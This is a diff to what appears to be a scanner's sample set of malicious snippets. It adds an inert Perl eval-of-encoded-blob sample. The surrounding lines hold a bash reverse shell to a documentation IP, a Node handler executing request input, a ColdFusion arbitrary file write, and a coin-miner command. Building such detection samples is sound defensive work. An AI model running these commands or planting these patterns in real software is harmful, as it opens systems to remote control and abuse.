@@ -97,6 +97,9 @@ SNIPPETS: dict[str, bytes] = {
     "coldfusion_file_manager": b'<cffile action="write" file="#form.path#" output="#form.body#">',
     "node_exec_on_request_input": (b"const cp = require('child_process');\n"
                                    b"app.get('/x', (req, res) => cp.exec(req.query.c));\n"),
+    "perl_eval_decoded_blob": (b"#!/usr/bin/perl\n$code = 'cHJpbnQgMTs=';\n"
+                               b"sub b64decode { local($_) = @_; tr|A-Za-z0-9+/||cd; return $_; }\n"
+                               b"eval(b64decode($code));\n"),
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
